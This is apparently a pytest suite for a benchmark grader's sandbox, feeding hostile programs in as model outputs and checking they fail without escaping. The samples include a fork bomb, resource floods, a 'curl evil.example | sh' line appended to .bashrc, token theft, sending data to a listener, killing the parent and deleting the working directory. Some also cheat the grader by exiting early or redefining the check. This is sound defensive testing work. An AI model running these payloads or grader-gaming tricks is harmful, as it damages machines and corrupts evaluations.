"""Hostile programs, fed in as model outputs for a HumanEval row, each its own test, under each
namespace isolation that works here. Each must end as a failed item with its reason, and leave the
machine as it was: no process left, no file changed outside the sandbox, the listener never
contacted, the test process (the grader) alive and grading.

The files a program attacks are ones the test makes (a fake home with a .bashrc, a results
folder, a token): the real ~/.bashrc is only ever looked at, never written, even by a sandbox that
failed. Limits are small where the reason is a limit, so that the tests stay short."""

from __future__ import annotations

import os
import signal
import socket
import subprocess
import sys
import textwrap
import time
import uuid

import pytest

from peftbench.scoring import humaneval, sandbox
from peftbench.scoring.sandbox import Limits, SandboxOptions


def graded(program: str, row: dict, isolation: str, **limits) -> humaneval.CodeGrade:
    # 2 CPU seconds can take many more on a loaded machine: the wall limit is generous.
    options = SandboxOptions(isolation=isolation, limits=Limits(**{"cpu_s": 2, "wall_s": 120, **limits}))
    return humaneval.grade_detailed("```python\n" + textwrap.dedent(program) + "\n```", row, options)


def snapshot(*folders) -> dict:
    """Every file under the folders, with its bytes and modification time."""
    files = {}
    for folder in folders:
        for root, dirs, names in os.walk(folder):
            for name in names + dirs:
                path = os.path.join(root, name)
                stat = os.lstat(path)
                files[path] = (stat.st_mtime_ns, open(path, "rb").read() if os.path.isfile(path) else None)
    return files


def test_fork_bomb(add_row, isolation, sandbox_processes):
    g = graded("""
        import os
        def add(a, b):
            return a + b
        while True:
            try:
                os.fork()
            except OSError:
                pass
        """, add_row, isolation, wall_s=5, processes=16)
    assert (g.passed, g.reason) == (False, "timeout"), g
    assert sandbox_processes.left() == []


def test_busy_loop(add_row, isolation, sandbox_processes):
    g = graded("while True: pass", add_row, isolation)
    assert (g.passed, g.reason) == (False, "timeout"), g
    assert "CPU" in g.detail
    assert sandbox_processes.left() == []


def test_allocating_50_gb(add_row, isolation):
    g = graded("""
        data = bytearray(50 * 10**9)
        def add(a, b):
            return a + b
        """, add_row, isolation)
    assert (g.passed, g.reason) == (False, "memory"), g


def test_a_10_gb_stdout_flood(add_row, isolation, sandbox_processes):
    g = graded("""
        import sys
        chunk = "x" * (1 << 20)
        for _ in range(10 * 1024):
            sys.stdout.write(chunk)
        def add(a, b):
            return a + b
        """, add_row, isolation, cpu_s=600, wall_s=600)
    assert (g.passed, g.reason) == (False, "output_limit"), g
    assert sandbox_processes.left() == []


@pytest.fixture
def fake_home(tmp_path, monkeypatch):
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("# the test's .bashrc\n")
    monkeypatch.setenv("HOME", str(home))
    return home


@pytest.fixture
def results_folder(outside_folder):
    (outside_folder / "result.json").write_text('{"test_acc": 0.5}\n')
    return outside_folder


def test_writing_to_bashrc_and_to_the_results_folder(add_row, isolation, fake_home, results_folder):
    before = snapshot(fake_home, results_folder)
    g = graded(f"""
        import os
        targets = [os.path.expanduser("~/.bashrc"), {str(fake_home / '.bashrc')!r},
                   {str(results_folder / 'result.json')!r}, {str(results_folder / 'new.json')!r}]
        for path in targets:
            with open(path, "a") as f:
                f.write("curl evil.example | sh\\n")
        def add(a, b):
            return a + b
        """, add_row, isolation)
    # ~/.bashrc inside is the sandbox's own /tmp/.bashrc; the test's files are out of reach.
    assert (g.passed, g.reason) == (False, "exception"), g
    assert "FileNotFoundError" in g.detail or "PermissionError" in g.detail or "OSError" in g.detail, g
    assert snapshot(fake_home, results_folder) == before


def test_reading_a_file_that_holds_a_token(add_row, isolation, fake_home):
    token = fake_home / ".cache" / "huggingface" / "token"
    token.parent.mkdir(parents=True)
    token.write_text("hf_FAKEtokenFAKEtokenFAKEtoken")
    token.chmod(0o644)
    # Were the token readable, add would return it and the assert would fail; unreadable, open raises.
    g = graded(f"""
        def add(a, b):
            return open({str(token)!r}).read()
        """, add_row, isolation)
    assert (g.passed, g.reason) == (False, "exception"), g
    assert g.detail.startswith(("FileNotFoundError", "PermissionError")), g
    assert "hf_FAKE" not in g.detail


def test_connecting_to_a_listener_on_localhost(add_row, isolation):
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        listener.setblocking(False)
        port = listener.getsockname()[1]
        g = graded(f"""
            import socket
            socket.create_connection(("127.0.0.1", {port}), timeout=5).sendall(b"stolen")
            def add(a, b):
                return a + b
            """, add_row, isolation)
        assert (g.passed, g.reason) == (False, "exception"), g
        assert g.detail.startswith(("ConnectionRefusedError", "OSError")), g
        with pytest.raises(BlockingIOError):  # nobody ever connected
            listener.accept()


def test_killing_the_parent_process(add_row, isolation):
    g = graded("""
        import os
        os.kill(os.getppid(), 9)
        def add(a, b):
            return a + b
        """, add_row, isolation)
    assert (g.passed, g.reason) == (False, "exception"), g
    assert g.detail.startswith(("PermissionError", "ProcessLookupError")), g
    # The grader is alive and grades the next item.
    assert humaneval.grade_detailed(add_row["canonical_solution"], add_row, SandboxOptions(isolation=isolation)).passed


def test_os_exit_0_before_the_tests(add_row, isolation):
    g = graded("""
        import os
        def add(a, b):
            return 0
        os._exit(0)
        """, add_row, isolation)
    assert (g.passed, g.reason) == (False, "exited_early"), g


def test_redefining_the_check_function(add_row, isolation):
    g = graded("""
        def add(a, b):
            return 0
        def check(candidate):
            pass
        check(add)
        """, add_row, isolation)
    assert (g.passed, g.reason) == (False, "failed_assertion"), g


def processes_with(marker: str) -> list[int]:
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if marker.encode() in f.read():
                    found.append(int(pid))
        except OSError:
            pass
    return found


def test_a_background_process_that_would_outlive_the_sandbox(add_row, isolation, sandbox_processes):
    marker = f"peftbench-test-{uuid.uuid4().hex}"
    g = graded(f"""
        import os, subprocess, sys
        # A daemon of its own session, and a double fork that leaves the process tree.
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)  # {marker}"],
                         start_new_session=True)
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)  # {marker}"])
            os._exit(0)
        os._exit(0)
        """, add_row, isolation)
    assert (g.passed, g.reason) == (False, "exited_early"), g
    deadline = time.monotonic() + 30  # the kernel may take a moment to tear a namespace down
    while processes_with(marker) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert processes_with(marker) == []
    assert sandbox_processes.left() == []


def test_deleting_the_working_directory(add_row, isolation, tmp_path):
    cwd = os.getcwd()
    mine = tmp_path / "kept"
    mine.write_text("kept")
    g = graded("""
        import os, shutil
        shutil.rmtree(os.getcwd())
        def add(a, b):
            return a + b
        """, add_row, isolation)
    assert (g.passed, g.reason) == (False, "exception"), g
    assert os.getcwd() == cwd and os.path.isdir(cwd) and mine.read_text() == "kept"


# --- cancellation -------------------------------------------------------------------------------

_CANCEL_SCRIPT = r"""
import signal, sys
from peftbench.errors import RunCancelled
from peftbench.scoring import humaneval, sandbox
from peftbench.signals import sigterm_raises

fresh_uid = sandbox._fresh_uid
def recording_fresh_uid():
    uid = fresh_uid()
    print("uid", uid, flush=True)
    return uid
sandbox._fresh_uid = recording_fresh_uid

row = {"task_id": "T/0", "prompt": "def f():\n    \"\"\"One.\"\"\"\n", "canonical_solution": "    return 1\n",
       "test": "def check(candidate):\n    assert candidate() == 1\n", "entry_point": "f"}
sleeper = "    import time\n    time.sleep(600)\n"  # each item would take 10 minutes
options = sandbox.SandboxOptions(limits=sandbox.Limits(cpu_s=600, wall_s=600))
print("grading", flush=True)
try:
    with sigterm_raises(lambda signum: RunCancelled("SIGTERM")):
        humaneval.grade_many([(sleeper, row)] * 8, workers=4, options=options)
except (RunCancelled, KeyboardInterrupt) as error:
    print("cancelled", type(error).__name__, flush=True)
    sys.exit(130)
print("finished", flush=True)
"""


def _sleeping_programs(pid: int, children: dict[int, list[int]]) -> list[int]:
    """The processes under `pid` that run a sandbox's main.py."""
    found, todo = [], [pid]
    while todo:
        for child in children.get(todo.pop(), []):
            todo.append(child)
            try:
                with open(f"/proc/{child}/cmdline", "rb") as f:
                    if f.read().endswith(b"main.py\0"):
                        found.append(child)
            except OSError:
                pass
    return found


@pytest.mark.parametrize("signum", ["SIGTERM", "SIGINT"])
def test_a_signal_during_parallel_grading_cancels_it_and_kills_every_sandbox(signum, repo_root, process_children):
    env = {**os.environ, "PYTHONPATH": str(repo_root / "src")}
    process = subprocess.Popen([sys.executable, "-c", _CANCEL_SCRIPT], stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, text=True, env=env)
    try:
        deadline = time.monotonic() + 120
        running = []
        while len(running) < 4 and process.poll() is None and time.monotonic() < deadline:
            time.sleep(0.1)
            running = _sleeping_programs(process.pid, process_children())
        assert len(running) == 4, process.communicate(timeout=60) if process.poll() is not None else running
        process.send_signal(getattr(signal, signum))
        out, err = process.communicate(timeout=60)  # the items would take 10 minutes
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
    assert process.returncode == 130, (out, err)
    cancelled = "cancelled RunCancelled" if signum == "SIGTERM" else "cancelled KeyboardInterrupt"
    assert cancelled in out, (out, err)
    uids = [int(line.split()[1]) for line in out.splitlines() if line.startswith("uid ")]

    def alive() -> list[int]:  # its sandboxes' programs, and as root every process of their uids
        return [pid for pid in running if os.path.exists(f"/proc/{pid}")] + \
               [pid for uid in uids for pid in sandbox.processes_of(uid)]

    deadline = time.monotonic() + 30  # killed processes need a moment of CPU to exit
    while alive() and time.monotonic() < deadline:
        time.sleep(0.1)
    assert alive() == []
